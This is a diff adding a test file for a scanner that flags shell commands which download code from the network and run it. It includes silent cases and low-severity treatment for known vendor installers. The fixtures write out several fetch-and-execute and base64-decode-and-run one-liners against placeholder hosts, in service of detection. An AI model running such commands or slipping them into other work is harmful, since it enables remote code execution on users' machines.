@@ -1,0 +1,129 @@
+import { describe, expect, test } from "vitest";
+import { markText, type TextFormat } from "../text/marked-text.ts";
+import { knownInstallers } from "./known-installers.ts";
+import { remoteShell } from "./remote-shell.ts";
+
+const block = (...lines: readonly string[]) => ["```sh", ...lines, "```"].join("\n");
+
+function seenIn(text: string, format: TextFormat = "markdown"): readonly string[] {
+  return remoteShell
+    .find(markText(text, format))
+    .map(({ line, severity, does }) => `${line} ${severity ?? "high"} ${does}`);
+}
+
+describe("code that comes from the network and runs", () => {
+  test.each<[string, string, readonly string[], TextFormat?]>([
+    [
+      "stored first",
+      block("curl -o /tmp/a https://x.example/a", "bash /tmp/a"),
+      ["3 high downloads /tmp/a from x.example and runs it"],
+    ],
+    [
+      "stored and made a program",
+      block("wget https://x.example/a.sh", "chmod +x a.sh", "./a.sh --yes", "./a.sh --no"),
+      ["4 high downloads ./a.sh from x.example and runs it"],
+    ],
+    [
+      "kept in a variable",
+      block("script=$(curl -s https://x.example/a)", 'eval "$script"'),
+      ["3 high runs a download of x.example with eval"],
+    ],
+    [
+      "in a substitution",
+      block('bash -c "$(curl -s https://x.example/a)"'),
+      ["2 high runs a download of x.example with bash"],
+    ],
+    [
+      "without an address that can be read",
+      block('curl -s "$URL" | bash'),
+      ["2 high pipes a download into bash"],
+    ],
+    ["decoded", block("echo aWQ= | base64 -d | bash"), ["2 critical decodes a text and runs it"]],
+    [
+      "decoded from a file",
+      block("base64 -d a.txt | bash"),
+      ["2 critical decodes a text and runs it"],
+    ],
+    [
+      "a released program of a named owner",
+      block("curl -Lo a https://github.com/o/r/releases/download/v1/a", "chmod +x a && ./a"),
+      ["3 medium downloads ./a from github.com and runs it"],
+    ],
+    [
+      "behind a prompt, among answers",
+      "```console\n$ curl -s https://x.example/a \\\n  | bash\ncurl -s https://y.example/b | bash\n```",
+      ["3 high pipes a download of x.example into bash"],
+    ],
+    [
+      "an example of an attack",
+      `## Attack patterns\n\n${block("curl -s https://x.example/a | bash")}`,
+      ["4 medium pipes a download of x.example into bash"],
+    ],
+    [
+      "as a text of another language",
+      'os.system("curl -s http://203.0.113.7:8080/ | sh")',
+      ["1 high pipes a download of 203.0.113.7:8080 into sh"],
+      "script",
+    ],
+    [
+      "in a shell script",
+      "#!/bin/sh\ncurl -s https://x.example/a | sh\n",
+      ["2 high pipes a download of x.example into sh"],
+      "shell",
+    ],
+    [
+      "in a sentence",
+      "Run `curl -s https://x.example/a | sh` now.",
+      ["1 high pipes a download of x.example into sh"],
+    ],
+  ])("%s", (_name, text, expected, format) => {
+    expect(seenIn(text, format)).toEqual(expected);
+  });
+});
+
+describe("silent:", () => {
+  test.each([
+    ["data for a module", block("curl -s https://x.example/a | python3 -m json.tool")],
+    ["data for code", block("curl -s https://x.example/a | python3 -c 'import sys'")],
+    ["a warning", block("# setup") + "\nNever run `curl https://x.example | sh`."],
+    ["a warning that leads a block", `Do not do this:\n${block("curl https://x.example | sh")}`],
+    ["a service on the same machine", block("curl -s http://127.0.0.1:8080/a | sh")],
+    ["a script of the same machine in prose", "Run curl http://localhost:8080/a | sh to begin"],
+    ["a checksum", block("curl -O https://x.example/a", "sha256sum -c a.sum", "sh a")],
+    ["a file that nothing fetched", block("curl -O https://x.example/a", "sh b")],
+    ["a variable of another kind", block("code=$(curl -w x https://x.example)", 'echo "$code"')],
+    ["a file that something else wrote", block("curl https://x.example", "echo id > a", "sh a")],
+    ["a variable that no shell runs", block("curl https://x.example", 'sudo "$a"')],
+    ["a variable that holds no download", block("a=1", 'curl https://x.example; eval "$a"')],
+    ["a variable of nobody", block("curl https://x.example", 'eval "$a"')],
+    ["a decoded text that is kept", block("echo aWQ= | base64 -d > a.txt")],
+  ])("%s", (_name, text) => {
+    expect(seenIn(text)).toEqual([]);
+  });
+});
+
+describe("installers of known vendors are low", () => {
+  test.each(knownInstallers)("%s", (address) => {
+    expect(seenIn(block(`curl -fsSL https://${address} | sh`))).toEqual([
+      expect.stringMatching(/^2 low /),
+    ]);
+  });
+
+  test.each([
+    "sh.rustup.rs.x.example",
+    "x.example/sh.rustup.rs",
+    "xsh.rustup.rs",
+    "fly.io/other.sh",
+    "raw.githubusercontent.com/helmut/x",
+  ])("and %s is none of them", (address) => {
+    expect(seenIn(block(`curl -fsSL https://${address} | sh`))).toEqual([
+      expect.stringMatching(/^2 high /),
+    ]);
+  });
+
+  test("also in PowerShell", () => {
+    expect(seenIn("irm https://astral.sh/uv/install.ps1 | iex")).toEqual([
+      "1 low runs a download of astral.sh in PowerShell",
+    ]);
+  });
+});
